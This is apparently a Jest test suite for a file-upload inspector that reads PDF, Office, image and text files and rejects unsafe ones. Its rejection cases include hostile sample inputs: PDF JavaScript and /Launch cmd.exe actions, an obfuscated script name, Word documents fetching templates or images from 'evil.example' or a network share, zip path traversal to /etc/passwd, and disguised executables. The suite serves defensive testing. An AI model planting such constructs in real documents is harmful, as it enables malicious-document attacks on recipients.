import { describe, expect, it } from '@jest/globals';
import { inspectFile, MOST_BYTES } from '#records/documents';
import { aPdf, packedObjects } from '../support/files/a-pdf.js';
import { aPng, aPngOf } from '../support/files/pictures.js';
import { aDocx, aZip } from '../support/files/a-zip.js';

const WORDS = 'The partnership reports on its eight priorities.';
const offered = (fileName: string, bytes: Uint8Array | string) => ({
  fileName,
  bytes: Buffer.from(bytes),
});
const rels = (type: string, target: string, mode = 'External') => ({
  name: 'word/_rels/settings.xml.rels',
  bytes: `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
});

describe('A file that may be a paper', () => {
  it('is a PDF: its pages are counted and its words read', async () => {
    const found = await inspectFile(offered('Report.PDF', aPdf({ pages: [WORDS, WORDS] })));
    expect(found).toEqual({
      kind: 'pdf',
      mediaType: 'application/pdf',
      pages: 2,
      text: `${WORDS} ${WORDS}`,
      isScannedImage: false,
    });
  });

  it('is a PDF of pictures, which is taken and told', async () => {
    const found = await inspectFile(offered('scan.pdf', aPdf({ pages: ['', '', WORDS] })));
    expect(found).toMatchObject({ pages: 3, isScannedImage: true });
  });

  it('is a Word document, with its words', async () => {
    const found = await inspectFile(offered('a.docx', aDocx('Crime &amp; disorder')));
    expect(found).toMatchObject({ kind: 'docx', text: 'Crime & disorder', pages: null });
  });

  it('is an OpenDocument text, an Excel workbook or a PowerPoint presentation', async () => {
    const odt = aZip([
      { name: 'mimetype', bytes: 'application/vnd.oasis.opendocument.text' },
      { name: 'content.xml', bytes: '<text:p>Wards</text:p>' },
    ]);
    const xlsx = aZip([
      { name: '[Content_Types].xml', bytes: '<Types/>' },
      { name: 'xl/workbook.xml', bytes: '<workbook/>' },
      { name: 'xl/sharedStrings.xml', bytes: '<si><t>Wards</t></si>' },
    ]);
    const pptx = aZip([
      { name: '[Content_Types].xml', bytes: '<Types/>' },
      { name: 'ppt/presentation.xml', bytes: '<p/>' },
      { name: 'ppt/slides/slide1.xml', bytes: '<a:p>Wards</a:p>' },
    ]);
    for (const file of [offered('a.odt', odt), offered('a.xlsx', xlsx), offered('a.pptx', pptx)]) {
      expect(await inspectFile(file)).toMatchObject({ text: 'Wards' });
    }
  });

  it('is a picture, or text of any age', async () => {
    expect(await inspectFile(offered('a.png', aPng()))).toMatchObject({ pages: 1, text: null });
    const pounds = Buffer.concat([Buffer.from('Cost,'), Buffer.from([0xa3]), Buffer.from('5')]);
    expect(await inspectFile(offered('a.csv', pounds))).toMatchObject({ text: 'Cost,£5' });
    const wide = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Wards', 'utf16le')]);
    expect(await inspectFile(offered('a.txt', wide))).toMatchObject({ text: 'Wards' });
  });

  it('may hold a chart with its figures, a link to click, and the template of its own machine', async () => {
    const workbook = aZip([{ name: 'xl/workbook.xml', bytes: '<workbook/>' }]);
    const chart = aDocx('x', {
      name: 'word/embeddings/Microsoft_Excel_Sheet.xlsx',
      bytes: workbook,
    });
    const link = aDocx('x', rels('hyperlink', 'https://county.example/'));
    const template = aDocx('x', rels('attachedTemplate', 'file:///C:\\Templates\\report.dotx'));
    for (const bytes of [chart, link, template]) {
      expect(await inspectFile(offered('a.docx', bytes))).toMatchObject({ kind: 'docx' });
    }
  });
});

describe('A file that is no paper is refused in one sentence:', () => {
  const whole = aPdf({ pages: [WORDS] });
  const script = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
  const inDocx = (name: string, bytes: string | Uint8Array) => aDocx('x', { name, bytes });
  const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);

  it.each<[what: string, name: string, bytes: Uint8Array | string, sentence: string]>([
    ['empty', 'a.pdf', '', 'The file is empty'],
    ['too large', 'a.pdf', Buffer.alloc(MOST_BYTES + 1), 'larger than 20 MB'],
    ['a program', 'setup.exe', 'MZ', 'A file that ends in .exe cannot be taken. Send PDF, Word'],
    ['of no kind', 'README', 'x', 'A file whose name has no ending cannot be taken.'],
    [
      'an old Word document',
      'a.doc',
      'x',
      'A file that ends in .doc cannot be taken. Save it as .docx or PDF.',
    ],
    ['drawn in SVG', 'a.svg', '<svg/>', 'Save it as PNG or PDF.'],
    ['a program named as a PDF', 'a.pdf', 'MZ\u0090\u0000', 'says that the file is a PDF'],
    [
      'a program named as a Word document',
      'a.docx',
      'MZ aaaaaaaaaaaaaaaaaaaaaaaa',
      'says that the file is a Word document',
    ],
    [
      'a web page named as a picture',
      'a.png',
      '<!doctype html><script>alert(1)</script>',
      'says that the file is a PNG picture',
    ],
    [
      'SVG named as a picture',
      'a.jpg',
      '<svg xmlns="http://www.w3.org/2000/svg"/>',
      'says that the file is a JPEG picture',
    ],
    ['a web page named as text', 'a.txt', ' <!DOCTYPE html><p>', 'The file is a web page'],
    ['no text', 'a.csv', 'a,b\u0000', 'what is in it is not'],
    [
      'a locked or old Word document',
      'a.docx',
      Buffer.from('d0cf11e0a1b11ae1'.padEnd(2048, '0'), 'hex'),
      'protected with a password, or of an older kind than .docx',
    ],
    [
      'a workbook named as a Word document',
      'a.docx',
      aZip([{ name: 'xl/workbook.xml', bytes: 'x' }]),
      'says that the file is a Word document',
    ],
    ['a Word document cut short', 'a.docx', aDocx('x').subarray(0, -40), 'damaged or cut short'],
    ['with macros', 'a.docx', inDocx('word/vbaProject.bin', 'x'), 'The file holds macros'],
    [
      'with macros by its types',
      'a.docx',
      inDocx('[Content_Types].xml', 'ms-word.document.macroEnabled.main+xml'),
      'The file holds macros',
    ],
    [
      'with a program in it',
      'a.docx',
      inDocx('word/media/image1.png', 'MZ\u0090'),
      'The file holds a program',
    ],
    [
      'with an object of another program',
      'a.docx',
      inDocx('word/embeddings/oleObject1.bin', Buffer.from('d0cf11e0', 'hex')),
      'an object of another program',
    ],
    [
      'packed in itself',
      'a.docx',
      inDocx('word/media/more.zip', aZip([{ name: 'a', bytes: 'x' }])),
      'another packed file',
    ],
    [
      'with a template elsewhere',
      'a.docx',
      aDocx('x', rels('attachedTemplate', 'https://evil.example/t.dotm')),
      'fetches its template from another place',
    ],
    [
      'with a template on a server',
      'a.docx',
      aDocx('x', rels('attachedTemplate', 'file:///\\\\server\\t.dotm')),
      'fetches its template from another place',
    ],
    [
      'with a picture elsewhere',
      'a.docx',
      aDocx('x', rels('image', 'http://evil.example/p.png')),
      'fetches a part of it',
    ],
    [
      'that climbs out of its folder',
      'a.docx',
      inDocx('../../etc/passwd', 'x'),
      'names places outside itself',
    ],
    ['that names the root', 'a.docx', inDocx('/etc/passwd', 'x'), 'names places outside itself'],
    [
      'that unpacks without end',
      'a.docx',
      inDocx('word/media/image1.bmp', zeros(40)),
      'unpacks to far more than it should',
    ],
    [
      'that lies about its size',
      'a.docx',
      aDocx('x', { name: 'word/a.xml', bytes: zeros(6), claims: 10 }),
      'damaged or cut short',
    ],
    [
      'of more parts than any',
      'a.docx',
      aZip(Array.from({ length: 5001 }, (_, n) => ({ name: `word/${n}`, bytes: '' }))),
      'unpacks to far more than it should',
    ],
    [
      'a PDF cut short',
      'a.pdf',
      whole.subarray(0, whole.length - 200),
      'The PDF is damaged or cut short',
    ],
    [
      'a PDF without its inside',
      'a.pdf',
      '%PDF-1.7\n1 0 obj\n<< >>\nendobj\ntrailer\n<< >>\nstartxref\n0\n%%EOF',
      'The PDF is damaged',
    ],
    [
      'a PDF with a password',
      'a.pdf',
      aPdf({
        pages: [WORDS],
        objects: [
          `<< /Filter /Standard /V 1 /R 2 /P -4 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> >>`,
        ],
        trailer: `/Encrypt 1000 0 R /ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>]`,
      }),
      'The PDF is protected with a password',
    ],
    [
      'a PDF with a script',
      'a.pdf',
      aPdf({ pages: [WORDS], catalogue: '/OpenAction 1000 0 R', objects: [script] }),
      'The PDF holds a script',
    ],
    [
      'a PDF with a script in disguise',
      'a.pdf',
      aPdf({ pages: [WORDS], objects: ['<< /S /J#61vaScript /JS (x) >>'] }),
      'The PDF holds a script',
    ],
    [
      'a PDF with a packed script',
      'a.pdf',
      aPdf({ pages: [WORDS], objects: [packedObjects(script)] }),
      'The PDF holds a script',
    ],
    [
      'a PDF that starts a program',
      'a.pdf',
      aPdf({ pages: [WORDS], objects: ['<< /S /Launch /F (cmd.exe) >>'] }),
      'a command that starts a program',
    ],
    [
      'a PDF with another file in it',
      'a.pdf',
      aPdf({
        pages: [WORDS],
        objects: ['<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream'],
      }),
      'another file inside it',
    ],
    ['a picture cut short', 'a.png', aPng().subarray(0, 50), 'The picture is damaged or cut short'],
    [
      'a picture of more points than a page',
      'a.png',
      aPngOf(40_000),
      'more points than a page can show',
    ],
  ])('%s', async (_what, name, bytes, sentence) => {
    await expect(inspectFile(offered(name, bytes))).rejects.toThrow(sentence);
  });
});
